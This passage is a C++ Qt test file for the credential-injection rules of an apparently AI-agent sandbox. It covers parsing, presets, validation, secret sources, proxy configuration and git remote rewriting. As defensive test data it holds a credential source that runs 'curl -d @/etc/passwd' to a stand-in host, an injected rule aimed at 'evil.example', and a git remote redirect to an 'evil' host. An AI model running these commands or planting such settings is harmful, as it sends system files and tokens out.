// SPDX-License-Identifier: GPL-3.0-or-later
// [[credentials]] rules (issue 19): parsing, canonical saving, presets, validation, review.
#include "engine/resourcenames.h"
#include "maintenance/sessionreaper.h"
#include "policy/credentials.h"
#include "policy/credentialstore.h"
#include "policy/policyfile.h"
#include "policy/policyreview.h"
#include "policy/validation.h"
#include "render/render.h"
#include "resolvecredentials.h"
#include "session/credentialsources.h"
#include "session/gateevent.h"
#include "session/sessionlog.h"
#include "util/paths.h"

#include <QDateTime>
#include <QElapsedTimer>
#include <QProcessEnvironment>
#include <QSemaphore>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>
#include <QTimer>

using namespace aisb;

namespace {

const PolicyIssue *issueFor(const QList<PolicyIssue> &issues, const QString &field)
{
    for (const PolicyIssue &i : issues) {
        if (i.field == field)
            return &i;
    }
    return nullptr;
}

QString describe(const QList<PolicyIssue> &issues)
{
    QStringList out;
    for (const PolicyIssue &i : issues)
        out << i.field + QStringLiteral(": ") + i.message;
    return out.join(QLatin1Char('\n'));
}

Policy::Credential rule(const QString &name, const QString &preset, const QString &source)
{
    Policy::Credential c;
    c.name = name;
    c.preset = preset;
    c.source = source;
    return c;
}

const QByteArray kTwoRules = "[network]\n"
                             "allow = [\"example.com\"]\n"
                             "\n"
                             "[[credentials]]\n"
                             "name = \"anthropic\"\n"
                             "preset = \"anthropic\"\n"
                             "source = \"keyring:anthropic\"\n"
                             "\n"
                             "[[credentials]]\n"
                             "name = \"gateway\"\n"
                             "host = \"ai.corp.example\"\n"
                             "header = \"Authorization\"\n"
                             "format = \"Bearer {value}\"\n"
                             "source = \"env:CORP_KEY\"\n"
                             "env = [\"CORP_AI_KEY\"]\n"
                             "base_url_env = \"CORP_AI_URL\"\n";

class MapStore : public CredentialStore
{
public:
    QString backendName() const override { return QStringLiteral("test map"); }
    std::optional<QString> read(const QString &name, QString *error) const override
    {
        if (!values.contains(name)) {
            *error = QStringLiteral("no such entry");
            return std::nullopt;
        }
        return values.value(name);
    }
    bool write(const QString &name, const QString &value, QString *) override
    {
        values.insert(name, value);
        return true;
    }
    bool remove(const QString &name, QString *) override { return values.remove(name) > 0; }
    QStringList names() const override { return values.keys(); }
    QMap<QString, QString> values;
};

// A keyring that answers only once the test lets it (a locked keyring waiting for its password).
class GatedStore : public MapStore
{
public:
    std::optional<QString> read(const QString &name, QString *error) const override
    {
        entered.release();
        if (!gate.tryAcquire(1, 30000)) {
            *error = QStringLiteral("not released");
            return std::nullopt;
        }
        readOn = QThread::currentThread();
        return MapStore::read(name, error);
    }
    mutable QSemaphore entered;
    mutable QSemaphore gate;
    mutable QThread *readOn = nullptr;
};

} // namespace

class TestCredentials : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void parsesAndSavesCanonically()
    {
        QList<PolicyIssue> issues;
        const PolicyLayer layer =
            PolicyFile::parse(kTwoRules, Layer::Project, QStringLiteral("p.toml"), issues);
        QVERIFY2(issues.isEmpty(), qPrintable(describe(issues)));
        QVERIFY(layer.fields.contains(QStringLiteral("credentials")));
        QCOMPARE(layer.values.credentials.size(), 2);
        const Policy::Credential &a = layer.values.credentials[0];
        QCOMPARE(a.name, QStringLiteral("anthropic"));
        QCOMPARE(a.preset, QStringLiteral("anthropic"));
        QCOMPARE(a.source, QStringLiteral("keyring:anthropic"));
        QVERIFY(a.host.isEmpty()); // the file keeps what was written; the preset fills in at use
        const Policy::Credential &g = layer.values.credentials[1];
        QCOMPARE(g.env, QStringList{QStringLiteral("CORP_AI_KEY")});
        QCOMPARE(g.baseUrlEnv, QStringLiteral("CORP_AI_URL"));
        // The same bytes back: written in file order, keys in a fixed order.
        QCOMPARE(PolicyFile::serialize(layer.values, layer.fields), kTwoRules);
        // And the string form (-o credentials=...) round-trips too.
        Policy viaString = defaultPolicy();
        QList<PolicyIssue> setIssues;
        QVERIFY(setPolicyFieldFromString(QStringLiteral("credentials"),
                                         policyFieldToString(QStringLiteral("credentials"), layer.values),
                                         viaString, setIssues));
        QVERIFY2(setIssues.isEmpty(), qPrintable(describe(setIssues)));
        QCOMPARE(viaString.credentials, layer.values.credentials);
        QVERIFY2(validate(layer.values).isEmpty(), qPrintable(describe(validate(layer.values))));
    }

    void emptyListChangesNothing()
    {
        const QByteArray before = PolicyFile::serialize(defaultPolicy());
        QVERIFY(!before.contains("credentials"));
        Policy p = defaultPolicy();
        p.credentials.clear();
        QCOMPARE(PolicyFile::serialize(p), before);
        // Only the credentials field of a policy without rules: nothing at all.
        QCOMPARE(PolicyFile::serialize(p, {QStringLiteral("credentials")}), QByteArray());
    }

    void presetsFillWhatIsNotGiven_data()
    {
        QTest::addColumn<QString>("preset");
        QTest::addColumn<QString>("host");
        QTest::addColumn<QString>("header");
        QTest::addColumn<QString>("format");
        QTest::addColumn<QString>("env");
        QTest::addColumn<QString>("baseUrlEnv");
        QTest::newRow("anthropic") << "anthropic"
                                   << "api.anthropic.com"
                                   << "x-api-key"
                                   << "{value}"
                                   << "ANTHROPIC_API_KEY"
                                   << "ANTHROPIC_BASE_URL";
        QTest::newRow("openai") << "openai"
                                << "api.openai.com"
                                << "Authorization"
                                << "Bearer {value}"
                                << "OPENAI_API_KEY"
                                << "OPENAI_BASE_URL";
        QTest::newRow("google") << "google"
                                << "generativelanguage.googleapis.com"
                                << "x-goog-api-key"
                                << "{value}"
                                << "GEMINI_API_KEY,GOOGLE_API_KEY"
                                << "GOOGLE_GEMINI_BASE_URL";
        QTest::newRow("github") << "github"
                                << "api.github.com"
                                << "Authorization"
                                << "Bearer {value}"
                                << "GH_TOKEN,GITHUB_TOKEN"
                                << "GITHUB_API_URL";
        QTest::newRow("github-git") << "github-git"
                                    << "github.com"
                                    << "Authorization"
                                    << "Basic {base64:x-access-token:{value}}"
                                    << ""
                                    << "";
    }
    void presetsFillWhatIsNotGiven()
    {
        QFETCH(QString, preset);
        QFETCH(QString, host);
        QFETCH(QString, header);
        QFETCH(QString, format);
        QFETCH(QString, env);
        QFETCH(QString, baseUrlEnv);
        QVERIFY(Credentials::presetNames().contains(preset));
        const Policy::Credential e =
            Credentials::effective(rule(QStringLiteral("r"), preset, QStringLiteral("env:X")));
        QCOMPARE(e.host, host);
        QCOMPARE(e.header, header);
        QCOMPARE(e.format, format);
        QCOMPARE(e.env, env.isEmpty() ? QStringList() : env.split(QLatin1Char(',')));
        QCOMPARE(e.baseUrlEnv, baseUrlEnv);
        QCOMPARE(e.source, QStringLiteral("env:X"));
        // A field given explicitly wins over the preset.
        Policy::Credential custom = rule(QStringLiteral("r"), preset, QStringLiteral("env:X"));
        custom.host = QStringLiteral("gateway.corp.example");
        custom.format = QStringLiteral("Token {value}");
        const Policy::Credential c = Credentials::effective(custom);
        QCOMPARE(c.host, QStringLiteral("gateway.corp.example"));
        QCOMPARE(c.format, QStringLiteral("Token {value}"));
        QCOMPARE(c.header, header);
        QCOMPARE(Credentials::headerValue(c, QStringLiteral("s3cr3t")), QStringLiteral("Token s3cr3t"));
    }

    // Each bad field: an issue naming exactly that field, whose message says what to write.
    void validationNamesTheFieldAndTheFix_data()
    {
        QTest::addColumn<QString>("toml");
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("fix");
        const auto row = [](const char *tag, const char *body, const char *field, const char *fix) {
            QTest::newRow(tag) << QString::fromUtf8(body) << QString::fromUtf8(field)
                               << QString::fromUtf8(fix);
        };
        row("name empty", "preset = \"openai\"\nsource = \"env:K\"", "credentials[0].name", "name = ");
        row("name with space", "name = \"a b\"\npreset = \"openai\"\nsource = \"env:K\"",
            "credentials[0].name", "name = ");
        row("unknown preset", "name = \"a\"\npreset = \"acme\"\nsource = \"env:K\"", "credentials[0].preset",
            "anthropic, openai, google, github");
        row("no host", "name = \"a\"\nheader = \"x-k\"\nformat = \"{value}\"\nsource = \"env:K\"",
            "credentials[0].host", "host = ");
        row("domain host", "name = \"a\"\npreset = \"openai\"\nhost = \".openai.com\"\nsource = \"env:K\"",
            "credentials[0].host", "one host");
        row("bad host", "name = \"a\"\npreset = \"openai\"\nhost = \"api openai.com\"\nsource = \"env:K\"",
            "credentials[0].host", "host = ");
        row("header Host", "name = \"a\"\npreset = \"openai\"\nheader = \"Host\"\nsource = \"env:K\"",
            "credentials[0].header", "Authorization");
        row("header Content-Length",
            "name = \"a\"\npreset = \"openai\"\nheader = \"content-length\"\nsource = \"env:K\"",
            "credentials[0].header", "Authorization");
        row("header not a token",
            "name = \"a\"\npreset = \"openai\"\nheader = \"x key:\"\nsource = \"env:K\"",
            "credentials[0].header", "header = ");
        row("format without value",
            "name = \"a\"\npreset = \"openai\"\nformat = \"Bearer\"\nsource = \"env:K\"",
            "credentials[0].format", "{value}");
        row("format with percent",
            "name = \"a\"\npreset = \"openai\"\nformat = \"%{value}\"\nsource = \"env:K\"",
            "credentials[0].format", "{value}");
        row("format with quote",
            "name = \"a\"\npreset = \"openai\"\nformat = \"Bearer \\\"{value}\"\nsource = \"env:K\"",
            "credentials[0].format", "{value}");
        row("base64 without value",
            "name = \"a\"\npreset = \"github-git\"\nformat = \"Basic {base64:u:}{value}\"\nsource = "
            "\"env:K\"",
            "credentials[0].format", "{base64:USER:{value}}");
        row("base64 not closed",
            "name = \"a\"\npreset = \"github-git\"\nformat = \"Basic {base64:u:{value}\"\nsource = \"env:K\"",
            "credentials[0].format", "{base64:USER:{value}}");
        row("base64 with a brace",
            "name = \"a\"\npreset = \"github-git\"\nformat = \"Basic {base64:u{:{value}}\"\nsource = "
            "\"env:K\"",
            "credentials[0].format", "{base64:USER:{value}}");
        row("base64 twice",
            "name = \"a\"\npreset = \"github-git\"\nformat = \"{base64:{base64:{value}}}\"\nsource = "
            "\"env:K\"",
            "credentials[0].format", "{base64:USER:{value}}");
        row("no source", "name = \"a\"\npreset = \"openai\"", "credentials[0].source", "keyring:NAME");
        row("unknown source", "name = \"a\"\npreset = \"openai\"\nsource = \"file:/etc/key\"",
            "credentials[0].source", "env:NAME");
        row("bad env source", "name = \"a\"\npreset = \"openai\"\nsource = \"env:A-B\"",
            "credentials[0].source", "env:NAME");
        row("empty command", "name = \"a\"\npreset = \"openai\"\nsource = \"command: \"",
            "credentials[0].source", "command:");
        row("bad keyring", "name = \"a\"\npreset = \"openai\"\nsource = \"keyring:a/b\"",
            "credentials[0].source", "keyring:NAME");
        row("bad env", "name = \"a\"\npreset = \"openai\"\nsource = \"env:K\"\nenv = [\"A-B\"]",
            "credentials[0].env", "letters, digits");
        row("bad base url env",
            "name = \"a\"\npreset = \"openai\"\nsource = \"env:K\"\nbase_url_env = \"1X\"",
            "credentials[0].base_url_env", "letters, digits");
    }
    void validationNamesTheFieldAndTheFix()
    {
        QFETCH(QString, toml);
        QFETCH(QString, field);
        QFETCH(QString, fix);
        QList<PolicyIssue> issues;
        const PolicyLayer layer = PolicyFile::parse(
            QString(QStringLiteral("[[credentials]]\n") + toml + QLatin1Char('\n')).toUtf8(), Layer::User,
            QStringLiteral("u.toml"), issues);
        QVERIFY2(issues.isEmpty(), qPrintable(describe(issues)));
        issues = validate(layer.values);
        const PolicyIssue *issue = issueFor(issues, field);
        QVERIFY2(issue, qPrintable(describe(issues)));
        QVERIFY2(issue->message.contains(fix), qPrintable(issue->message));
        // One issue, except an unknown preset (it leaves host, header and format empty as well).
        if (!field.endsWith(QLatin1String(".preset")))
            QCOMPARE(issues.size(), 1);
    }

    void duplicateNamesAreRefused()
    {
        Policy p = defaultPolicy();
        p.credentials = {rule(QStringLiteral("key"), QStringLiteral("openai"), QStringLiteral("env:A")),
                         rule(QStringLiteral("KEY"), QStringLiteral("anthropic"), QStringLiteral("env:B"))};
        const QList<PolicyIssue> issues = validate(p);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(issues.first().field, QStringLiteral("credentials[1].name"));
        QVERIFY(issues.first().message.contains(QLatin1String("twice")));
    }

    void parseErrorsNameTheKey()
    {
        QList<PolicyIssue> issues;
        PolicyFile::parse("[[credentials]]\nname = \"a\"\nsecret = \"x\"\n", Layer::User,
                          QStringLiteral("u.toml"), issues);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(issues.first().field, QStringLiteral("credentials[0].secret"));
        QVERIFY(issues.first().message.startsWith(QLatin1String("u.toml:")));
        issues.clear();
        PolicyFile::parse("[[credentials]]\nname = \"a\"\nenv = \"X\"\n", Layer::User,
                          QStringLiteral("u.toml"), issues);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(issues.first().field, QStringLiteral("credentials[0].env"));
        issues.clear();
        PolicyFile::parse("[credentials]\nname = \"a\"\n", Layer::User, QStringLiteral("u.toml"), issues);
        QCOMPARE(issues.size(), 1);
        QCOMPARE(issues.first().field, QStringLiteral("credentials"));
        QVERIFY(issues.first().message.contains(QLatin1String("[[credentials]]")));
    }

    // What the sandbox may spend is never taken from the environment (a project's .envrc).
    void environmentCannotSetCredentials()
    {
        QProcessEnvironment env;
        env.insert(QStringLiteral("AISB_CREDENTIALS"),
                   QStringLiteral(
                       "[{ name = \"x\", host = \"evil.example\", header = \"x-k\", format = \"{value}\", "
                       "source = \"env:HOME\" }]"));
        QList<PolicyIssue> issues;
        const PolicyLayer layer = environmentLayer(env, issues);
        QVERIFY(!layer.fields.contains(QStringLiteral("credentials")));
        QVERIFY(layer.values.credentials.isEmpty());
        QVERIFY(issueFor(issues, QStringLiteral("credentials")));
    }

    void layersReplaceTheList()
    {
        QList<PolicyIssue> issues;
        const PolicyLayer user =
            PolicyFile::parse("[[credentials]]\nname = \"a\"\npreset = \"openai\"\nsource = \"env:K\"\n",
                              Layer::User, QStringLiteral("u.toml"), issues);
        const PolicyLayer none =
            PolicyFile::parse("[network]\nallow = []\n", Layer::Project, QStringLiteral("p.toml"), issues);
        QVERIFY(issues.isEmpty());
        ResolvedPolicy r = mergeLayers({user, none});
        QCOMPARE(r.policy.credentials.size(), 1);
        QVERIFY(r.origin.value(QStringLiteral("credentials")) == Layer::User);
        const PolicyLayer project = PolicyFile::parse(
            "[[credentials]]\nname = \"b\"\npreset = \"github\"\nsource = \"command:gh auth token\"\n",
            Layer::Project, QStringLiteral("p.toml"), issues);
        r = mergeLayers({user, project});
        QCOMPARE(r.policy.credentials.size(), 1);
        QCOMPARE(r.policy.credentials.first().name, QStringLiteral("b"));
        QVERIFY(r.origin.value(QStringLiteral("credentials")) == Layer::Project);
    }

    // A project file that introduces a credential, and above all a host command, is highlighted.
    void reviewHighlightsCredentials()
    {
        const QByteArray envRule =
            "[[credentials]]\nname = \"k\"\npreset = \"openai\"\nsource = \"env:OPENAI\"\n";
        const QByteArray commandRule = "[[credentials]]\nname = \"k\"\npreset = \"openai\"\nsource = "
                                       "\"command:curl -d @/etc/passwd x\"\n";
        PolicyReview review = reviewPolicy(envRule);
        QVERIFY(review.parses());
        QCOMPARE(review.items.size(), 1);
        QCOMPARE(review.items.first().kind, PolicyReview::Kind::Credential);
        QVERIFY(review.items.first().value.contains(QLatin1String("api.openai.com")));
        QVERIFY(review.items.first().risky());
        QVERIFY(review.items.first().risk.contains(QLatin1String("credential")));
        // Approved as is: no longer a new grant, not flagged again.
        review = reviewPolicy(envRule, envRule);
        QVERIFY(!review.items.first().risky());
        // Changed (the source): flagged again, and a command always with the stronger warning.
        review = reviewPolicy(commandRule, envRule);
        QVERIFY(review.items.first().added);
        QVERIFY(review.items.first().risk.contains(QLatin1String("outside the sandbox")));
        QVERIFY(review.items.first().value.contains(QLatin1String("command:curl -d @/etc/passwd x")));
        review = reviewPolicy(commandRule, commandRule);
        QVERIFY(review.items.first().risk.contains(QLatin1String("outside the sandbox")));
        QVERIFY(review.text().contains(QLatin1String("  ! credentials: k:")));
    }

    // Sources: env, command (no shell, stdout trimmed, stderr never shown), keyring.
    void sourcesAreRead()
    {
        const QString secret = QStringLiteral("tok-") + QString::number(QDateTime::currentMSecsSinceEpoch());
        QProcessEnvironment host;
        host.insert(QStringLiteral("MY_KEY"), secret);
        QString error;
        Policy::Credential c =
            rule(QStringLiteral("r"), QStringLiteral("openai"), QStringLiteral("env:MY_KEY"));
        QCOMPARE(test::resolveCredential(c, host, &error), std::optional<QString>(secret));
        c.source = QStringLiteral("env:NOT_SET_HERE");
        QVERIFY(!test::resolveCredential(c, host, &error));
        QVERIFY(error.contains(QLatin1String("NOT_SET_HERE")) && error.contains(QLatin1String("r")));
        // A command's stdout, trimmed; the argv is split without a shell ($HOME stays literal).
        c.source = QStringLiteral("command:printf \"  %s\\n\" \"") + secret + QStringLiteral(" $HOME\"");
        QCOMPARE(test::resolveCredential(c, host, &error),
                 std::optional<QString>(secret + QStringLiteral(" $HOME")));
        // A failing command: its stderr (which may hold the value) is not in the message.
        c.source = QStringLiteral("command:sh -c \"echo ") + secret + QStringLiteral(" >&2; exit 3\"");
        QVERIFY(!test::resolveCredential(c, host, &error));
        QVERIFY2(error.contains(QLatin1String("exit code 3")), qPrintable(error));
        QVERIFY(!error.contains(secret));
        c.source = QStringLiteral("command:sleep 30");
        QElapsedTimer t;
        t.start();
        QVERIFY(!test::resolveCredential(c, host, &error, 300));
        QVERIFY2(error.contains(QLatin1String("did not finish")), qPrintable(error));
        c.source = QStringLiteral("command:/nonexistent/tool");
        QVERIFY(!test::resolveCredential(c, host, &error));
        QVERIFY2(error.contains(QLatin1String("could not be started")), qPrintable(error));
        // Keyring: no backend is a clear error; with one, its value.
        setCredentialStore(nullptr);
        c.source = QStringLiteral("keyring:k1");
        QVERIFY(!test::resolveCredential(c, host, &error));
        QVERIFY2(error.contains(QLatin1String("no keyring backend")), qPrintable(error));
        auto store = std::make_shared<MapStore>();
        store->values.insert(QStringLiteral("k1"), secret);
        setCredentialStore(store);
        QCOMPARE(test::resolveCredential(c, host, &error), std::optional<QString>(secret));
        c.source = QStringLiteral("keyring:k2");
        QVERIFY(!test::resolveCredential(c, host, &error));
        QVERIFY(error.contains(QLatin1String("k2")) && error.contains(QLatin1String("test map")));
        setCredentialStore(nullptr);
        // The header values of a policy, in order, formatted; the first failure stops it.
        Policy p = defaultPolicy();
        p.credentials = {
            rule(QStringLiteral("a"), QStringLiteral("openai"), QStringLiteral("env:MY_KEY")),
            rule(QStringLiteral("b"), QStringLiteral("anthropic"), QStringLiteral("env:MY_KEY"))};
        const auto values = test::resolveCredentials(p, host, &error);
        QVERIFY(values);
        QCOMPARE(*values, (QList<QString>{QStringLiteral("Bearer ") + secret, secret}));
        p.credentials[1].source = QStringLiteral("env:MISSING");
        QVERIFY(!test::resolveCredentials(p, host, &error));
        QVERIFY(error.contains(QLatin1String("rule b")));
    }

    // A keyring: read is made off the caller's thread: the caller's event loop turns while the
    // keyring waits, and the value arrives once it answers.
    void keyringReadDoesNotBlock()
    {
        auto store = std::make_shared<GatedStore>();
        store->values.insert(QStringLiteral("k1"), QStringLiteral("tok-gated"));
        setCredentialStore(store);
        Policy p = defaultPolicy();
        p.credentials = {rule(QStringLiteral("a"), QStringLiteral("openai"), QStringLiteral("keyring:k1"))};
        CredentialResolver resolver(p, QProcessEnvironment());
        QSignalSpy resolved(&resolver, &CredentialResolver::resolved);
        int ticks = 0;
        QTimer ticker;
        ticker.setInterval(5);
        connect(&ticker, &QTimer::timeout, &resolver, [&ticks] { ++ticks; });
        ticker.start();
        resolver.start();
        // The read has begun and waits; the loop still turns.
        QTRY_VERIFY_WITH_TIMEOUT(store->entered.available() > 0, 10000);
        const int before = ticks;
        QTRY_VERIFY_WITH_TIMEOUT(ticks > before + 3, 10000);
        QVERIFY(resolved.isEmpty());
        store->gate.release();
        QVERIFY(resolved.wait(10000));
        QCOMPARE(resolved.at(0).at(0).value<QList<QString>>(),
                 QList<QString>{QStringLiteral("Bearer tok-gated")});
        QVERIFY(store->readOn && store->readOn != QThread::currentThread());
        setCredentialStore(nullptr);
    }

    // The gate's config carries a placeholder; only the secret's lines carry the value.
    void gateConfigHoldsNoValue()
    {
        Policy p = defaultPolicy();
        p.credentials = {
            rule(QStringLiteral("anthropic"), QStringLiteral("anthropic"), QStringLiteral("env:K"))};
        const QList<Render::GateCredential> endpoints = Render::gateCredentials(p, {40124});
        QCOMPARE(endpoints.size(), 1);
        QCOMPARE(endpoints.first().host, QStringLiteral("api.anthropic.com"));
        QCOMPARE(endpoints.first().upstreamPort, quint16(443));
        const QString secret = QStringLiteral("sk-ant-100%-secret");
        const QString config = Render::gateConfig(p, 40123, {}, nullptr, {}, endpoints);
        QVERIFY(
            config.contains(QLatin1String("http_port 127.0.0.1:40124 accel defaultsite=api.anthropic.com")));
        QVERIFY(config.contains(QLatin1String("<gate-managed: the value of rule anthropic>")));
        QVERIFY(config.contains(QLatin1String("include /run/secrets/aisb-credentials.conf")));
        QVERIFY(!config.contains(QLatin1String("sk-ant")));
        // A live allowlist change re-renders it with the same endpoints.
        QCOMPARE(Render::gateCredentialPortsOf(config), QList<quint16>{40124});
        QVERIFY(!Render::gateConfigUsesCaBundle(config));
        const QString withCa =
            Render::gateConfig(p, 40123, {}, nullptr, {}, endpoints, QLatin1String(Render::gateCaBundlePath));
        QVERIFY(Render::gateConfigUsesCaBundle(withCa));
        QVERIFY(Render::gateCredentialPortsOf(Render::gateConfig(p, 40123)).isEmpty());
        QString error;
        const QByteArray lines = Render::gateCredentialLines(endpoints, {secret}, &error);
        QVERIFY2(lines.contains("request_header_add x-api-key \"sk-ant-100%%-secret\" aisb_cred_1\n"),
                 lines.constData());
        // Nothing that could end the quoted value or the line.
        for (const QString &bad : {QStringLiteral("a\"b"), QStringLiteral("a\\b"), QStringLiteral("a\nb"),
                                   QStringLiteral("\u00e9"), QString()}) {
            QVERIFY(Render::gateCredentialLines(endpoints, {bad}, &error).isEmpty());
            QVERIFY(error.contains(QLatin1String("anthropic")));
        }
        // A rule for a local service goes to its port.
        p.network.local = {
            LocalService{QStringLiteral("api.anthropic.com"), QStringLiteral("127.0.0.1"), 18443}};
        QCOMPARE(Render::gateCredentials(p, {40124}).first().upstreamPort, quint16(18443));
        // The sandbox's variables: placeholder and endpoint.
        const auto env = Render::credentialEnvironment(p, {QStringLiteral("10.0.2.2"), 40123}, {40124});
        QCOMPARE(env, (QList<QPair<QString, QString>>{
                          {QStringLiteral("ANTHROPIC_API_KEY"), QStringLiteral("gate-managed")},
                          {QStringLiteral("ANTHROPIC_BASE_URL"), QStringLiteral("http://10.0.2.2:40124")}}));
        // And the host's variable of that name never reaches the env file.
        p.env.pass = {QStringLiteral("ANTHROPIC_API_KEY")};
        QProcessEnvironment host;
        host.insert(QStringLiteral("ANTHROPIC_API_KEY"), secret);
        const Render::EnvFile file = Render::envFile(p, host);
        QVERIFY(!file.content.contains("sk-ant"));
        QVERIFY(file.rejected.contains(QStringLiteral("ANTHROPIC_API_KEY")));
    }
    // git over HTTPS (github-git): HTTP Basic of x-access-token:<token>, computed only for the
    // secret's lines; the sandbox's git is pointed at the endpoint by environment configuration,
    // merged after env.set's own entries.
    void gitRuleSendsBasicAndRewritesRemotes()
    {
        Policy p = defaultPolicy();
        p.credentials = {
            rule(QStringLiteral("gh"), QStringLiteral("github-git"), QStringLiteral("env:GH_TOKEN"))};
        QVERIFY(validate(p).isEmpty());
        const Policy::Credential e = Credentials::effective(p.credentials.first());
        const QString token = QStringLiteral("ghp_T0ken%1");
        const QString basic = Credentials::headerValue(e, token);
        QCOMPARE(basic, QStringLiteral("Basic ") +
                            QString::fromLatin1(QByteArray("x-access-token:ghp_T0ken%1").toBase64()));
        QCOMPARE(basic, QStringLiteral("Basic eC1hY2Nlc3MtdG9rZW46Z2hwX1Qwa2VuJTE="));
        // The plain form is unchanged.
        Policy::Credential bearer = e;
        bearer.format = QStringLiteral("token {value} x");
        QCOMPARE(Credentials::headerValue(bearer, token), QStringLiteral("token ghp_T0ken%1 x"));
        QVERIFY(Credentials::formatError(QStringLiteral("{base64:{value}}")).isEmpty());
        QVERIFY(!Credentials::formatError(QStringLiteral("{base64:a}{value}")).isEmpty());
        QCOMPARE(Credentials::gitRemotePrefix(p.credentials.first()), QStringLiteral("https://github.com/"));
        QVERIFY(Credentials::gitRemotePrefix(
                    rule(QStringLiteral("api"), QStringLiteral("github"), QStringLiteral("env:X")))
                    .isEmpty());

        // The gate's config: the endpoint for github.com, no value, no base64.
        const QList<Render::GateCredential> endpoints = Render::gateCredentials(p, {40124});
        QCOMPARE(endpoints.first().host, QStringLiteral("github.com"));
        QCOMPARE(endpoints.first().header, QStringLiteral("Authorization"));
        const QString config = Render::gateConfig(p, 40123, {}, nullptr, {}, endpoints);
        QVERIFY(config.contains(QLatin1String("http_port 127.0.0.1:40124 accel defaultsite=github.com")));
        QVERIFY(!config.contains(QLatin1String("eC1hY2Nlc3Mt")));
        QVERIFY(!config.contains(QLatin1String("ghp_")));
        QString error;
        const QByteArray lines = Render::gateCredentialLines(endpoints, {basic}, &error);
        QVERIFY2(lines.contains("request_header_add Authorization \"Basic "
                                "eC1hY2Nlc3MtdG9rZW46Z2hwX1Qwa2VuJTE=\" aisb_cred_1\n"),
                 lines.constData());

        // The sandbox's variables: git's configuration only (no placeholder, no base URL).
        const auto env = Render::credentialEnvironment(p, {QStringLiteral("10.0.2.2"), 40123}, {40124});
        QCOMPARE(env, (QList<QPair<QString, QString>>{
                          {QStringLiteral("GIT_CONFIG_KEY_0"),
                           QStringLiteral("url.http://10.0.2.2:40124/.insteadOf")},
                          {QStringLiteral("GIT_CONFIG_VALUE_0"), QStringLiteral("https://github.com/")},
                          {QStringLiteral("GIT_CONFIG_COUNT"), QStringLiteral("1")}}));
        for (const auto &[name, value] : env)
            QVERIFY(!value.contains(QLatin1String("ghp_")) && !value.contains(QLatin1String("eC1h")));
        // Without the gate (another mode) nothing is set.
        Policy open = p;
        open.network.mode = NetworkMode::Open;
        QVERIFY(!Credentials::setsGitConfig(open));

        // env.set's own entries stay; the rule's come after them, the count is the sum (on the
        // command line; env.set's GIT_CONFIG_COUNT is not in the env file).
        Policy merged = p;
        merged.env.set.insert(QStringLiteral("GIT_CONFIG_COUNT"), QStringLiteral("1"));
        merged.env.set.insert(QStringLiteral("GIT_CONFIG_KEY_0"), QStringLiteral("user.name"));
        merged.env.set.insert(QStringLiteral("GIT_CONFIG_VALUE_0"), QStringLiteral("Agent"));
        QVERIFY2(validate(merged).isEmpty(), qPrintable(describe(validate(merged))));
        const auto env2 = Render::credentialEnvironment(merged, {QStringLiteral("10.0.2.2"), 40123}, {40124});
        QCOMPARE(env2.size(), 3);
        QCOMPARE(env2.at(0).first, QStringLiteral("GIT_CONFIG_KEY_1"));
        QCOMPARE(env2.at(2),
                 (QPair<QString, QString>{QStringLiteral("GIT_CONFIG_COUNT"), QStringLiteral("2")}));
        QProcessEnvironment host;
        host.insert(QStringLiteral("GIT_CONFIG_KEY_1"), QStringLiteral("url.http://evil/.insteadOf"));
        host.insert(QStringLiteral("GIT_CONFIG_VALUE_1"), QStringLiteral("https://github.com/"));
        merged.env.pass = {QStringLiteral("GIT_*")};
        const Render::EnvFile file = Render::envFile(merged, host);
        QVERIFY2(file.content.contains("AISB_ENV_GIT_CONFIG_KEY_0=user.name\n"), file.content.constData());
        QVERIFY(!file.content.contains("GIT_CONFIG_COUNT"));
        QVERIFY(!file.content.contains("evil"));
        QVERIFY(file.rejected.contains(QStringLiteral("GIT_CONFIG_KEY_1")));
        QVERIFY(!file.rejected.contains(QStringLiteral("GIT_CONFIG_COUNT")));

        // What cannot be merged is refused, naming the field and the fix.
        const auto issueOf = [](const Policy &q, const QString &field) -> QString {
            const QList<PolicyIssue> issues = validate(q);
            const PolicyIssue *i = issueFor(issues, field);
            return i ? i->message
                     : QStringLiteral("no issue for ") + field + QLatin1String(": ") + describe(issues);
        };
        Policy passed = p;
        passed.env.pass = {QStringLiteral("GIT_CONFIG_COUNT")};
        QVERIFY(issueOf(passed, QStringLiteral("env.pass[0]")).contains(QLatin1String("env.set")));
        Policy beyond = p;
        beyond.env.set.insert(QStringLiteral("GIT_CONFIG_KEY_0"), QStringLiteral("user.name"));
        QVERIFY(issueOf(beyond, QStringLiteral("env.set.GIT_CONFIG_KEY_0"))
                    .contains(QLatin1String("Set GIT_CONFIG_COUNT")));
        Policy badCount = p;
        badCount.env.set.insert(QStringLiteral("GIT_CONFIG_COUNT"), QStringLiteral("two"));
        QVERIFY(issueOf(badCount, QStringLiteral("env.set.GIT_CONFIG_COUNT"))
                    .contains(QLatin1String("0 to 100")));
        Policy missing = p;
        missing.env.set.insert(QStringLiteral("GIT_CONFIG_COUNT"), QStringLiteral("1"));
        QVERIFY(issueOf(missing, QStringLiteral("env.set.GIT_CONFIG_COUNT"))
                    .contains(QLatin1String("GIT_CONFIG_KEY_0 is not set")));
        // Without a github-git rule env.set's git configuration is the user's business.
        Policy plain = beyond;
        plain.credentials.clear();
        QVERIFY(validate(plain).isEmpty());
    }

    // The gate's log names the rule a request carried (9th column), never anything else.
    void logMarksCredentialRequests()
    {
        const QByteArray base =
            "1764968400.123\t127.0.0.1\tTCP_MISS/200\t200\tGET\thttp://api.anthropic.com/v1/"
            "messages\t127.0.0.1\t512";
        GateEvent e;
        QVERIFY(GateEvent::parse(QString::fromLatin1(base + "\tanthropic"), e));
        QCOMPARE(e.credential, QStringLiteral("anthropic"));
        QCOMPARE(e.bytes, 512);
        QVERIFY(GateEvent::parse(QString::fromLatin1(base + "\t-"), e));
        QVERIFY(e.credential.isEmpty());
        QVERIFY(GateEvent::parse(QString::fromLatin1(base), e)); // a gate without rules: 8 columns
        QVERIFY(e.credential.isEmpty());
        QCOMPARE(e.bytes, 512);
        const QList<GateEvent> all =
            GateEvent::parseAll(base + "\tanthropic\n" + base + "\t-\n" + base + "\tgithub\n");
        QCOMPARE(all.size(), 3);
        QList<SessionLog::Record> records;
        for (const GateEvent &g : all) {
            SessionLog::Record r;
